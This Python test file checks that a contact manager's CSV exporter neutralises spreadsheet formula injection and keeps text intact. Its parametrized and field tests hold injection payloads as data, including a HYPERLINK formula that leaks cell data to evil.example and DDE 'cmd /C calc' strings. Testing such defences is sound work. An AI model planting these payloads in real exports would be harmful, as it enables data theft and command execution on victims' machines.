"""The CSV writer: every field, safe in spreadsheets, exact through the csv module."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from export_helpers import make_contact
from hypothesis import given
from hypothesis import strategies as st

from netui.domain.types import Contact, TriageStatus
from netui.io import ImportedContact, read_contacts
from netui.io.export_csv import CSV_COLUMNS, MULTI_VALUE_SEPARATOR, neutralise, write_csv


def written(*contacts: Contact) -> str:
    out = io.StringIO(newline="")
    write_csv(contacts, out)
    return out.getvalue()


def rows_of(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def unneutralised(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+1",
        "+1 206 555 0142",
        "-2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\tplain after a tab",
        "\rplain after a return",
        "  =1+1",
        "\n@SUM(A1)",
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["", "Dana", "a=b", "3 + 4", "'quoted", "José Müller", "email@x.example", "  spaced"]
)
def test_harmless_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_header_and_one_row_with_every_field() -> None:
    rows = rows_of(written(make_contact(7)))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert rows == [
        {
            "Name": "Dana Whitfield",
            "First name": "Dana",
            "Last name": "Whitfield",
            "Company": "Tidewell Systems",
            "Title": "Director of Operations",
            "Emails": "dana.whitfield@tidewell.example",
            "Phones": "'+1 206 555 0142",
            "LinkedIn": "https://www.linkedin.com/in/dana-whitfield-4821",
            "How we met": "Same team at Tidewell",
            "Notes": "Knows everyone in logistics.",
            "Tags": "former colleague ::: mentor",
            "Strength": "4",
            "Status": "top20",
            "Top 20 rank": "3",
            "Last contacted": "2021-03-01",
            "Last contacted precision": "month",
            "Cadence": "3m",
            "Next follow-up": "2026-12-01",
            "Date connected": "2019-01-16",
            "Previous company": "",
            "Previous title": "",
            "Job changed on": "",
            "UID": "0b7d3c2e-5f1a-4c8e-9d6b-000000000007",
            "netui ID": "7",
        }
    ]


def test_empty_values_are_empty_cells() -> None:
    contact = make_contact(
        strength=None,
        top20_rank=None,
        status=TriageStatus.NEW,
        last_contacted=None,
        last_contacted_precision=None,
        cadence=None,
        next_follow_up=None,
        connected_on=None,
        emails=(),
        phones=(),
        tags=(),
    )
    row = rows_of(written(contact))[0]
    for column in ("Strength", "Top 20 rank", "Last contacted", "Cadence", "Emails", "Tags"):
        assert row[column] == ""


def test_every_text_field_is_neutralised() -> None:
    hostile = '=HYPERLINK("http://evil.example","x")'
    contact = make_contact(
        full_name=hostile,
        first_name="=A1",
        last_name="+B2",
        company="-C3",
        title="@D4",
        emails=("=e@x.example", "ok@x.example"),
        phones=("+44 20 7946 0000",),
        linkedin_url="=cmd|' /C calc'!A0",
        how_we_met="\t=1",
        notes="\r=2",
        tags=("@tag", "plain"),
        previous_company="=old",
        previous_title="-old",
    )
    row = rows_of(written(contact))[0]
    for column, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column
    assert row["Name"] == "'" + hostile
    assert row["Emails"] == "'=e@x.example ::: ok@x.example"
    assert row["Phones"] == "'+44 20 7946 0000"


def test_bom_crlf_and_multi_line_notes_stay_in_one_cell(tmp_path: Path) -> None:
    contact = make_contact(notes='line one\nline two, with a comma\r\nand "quotes"')
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        assert write_csv([contact, make_contact(2, full_name="Zoë 🎉 Ngata")], out) == 2
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") >= 3
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    assert len(rows) == 3
    assert rows[1][CSV_COLUMNS.index("Notes")] == contact.notes
    assert rows[2][0] == "Zoë 🎉 Ngata"


def test_accents_and_emoji_survive() -> None:
    contact = make_contact(
        full_name="José Müller-Łukasiewicz 🎉",
        company="Café Noël GmbH",
        title="Directrice générale",
        notes="天気がいい — ça va? 👋🏽",
        tags=("ñandú", "Ελληνικά"),
    )
    row = rows_of(written(contact))[0]
    assert row["Name"] == contact.full_name
    assert row["Company"] == contact.company
    assert row["Notes"] == contact.notes
    assert row["Tags"].split(MULTI_VALUE_SEPARATOR) == list(contact.tags)


@given(
    name=st.text(min_size=1, max_size=60),
    notes=st.text(max_size=200),
    company=st.text(max_size=40),
)
def test_any_text_comes_back_exactly_through_the_csv_module(
    name: str, notes: str, company: str
) -> None:
    contact = make_contact(full_name=name, notes=notes, company=company)
    row = rows_of(written(contact))[0]
    assert row["Name"] == neutralise(name)
    assert unneutralised(row["Name"]) == name or name.startswith("'")
    assert row["Notes"] == neutralise(notes)
    assert row["Company"] == neutralise(company)


def test_netui_reads_its_own_csv_back(tmp_path: Path) -> None:
    path = tmp_path / "contacts.csv"
    contacts = [
        make_contact(1),
        make_contact(
            2,
            full_name="Kwame Mensah",
            first_name="Kwame",
            last_name="Mensah",
            emails=("kwame@mailbox.example", "k.mensah@work.example"),
            phones=(),
            notes="Two lines\nof notes",
        ),
    ]
    with path.open("w", encoding="utf-8", newline="") as out:
        write_csv(contacts, out)
    read = [item for item in read_contacts(path) if isinstance(item, ImportedContact)]
    assert [c.full_name for c in read] == ["Dana Whitfield", "Kwame Mensah"]
    assert read[1].emails == ("kwame@mailbox.example", "k.mensah@work.example")
    assert read[1].notes == "Two lines\nof notes"
    assert read[0].company == "Tidewell Systems"
    assert read[0].tags == ("former colleague", "mentor")
    assert read[0].connected_on == date(2019, 1, 16)
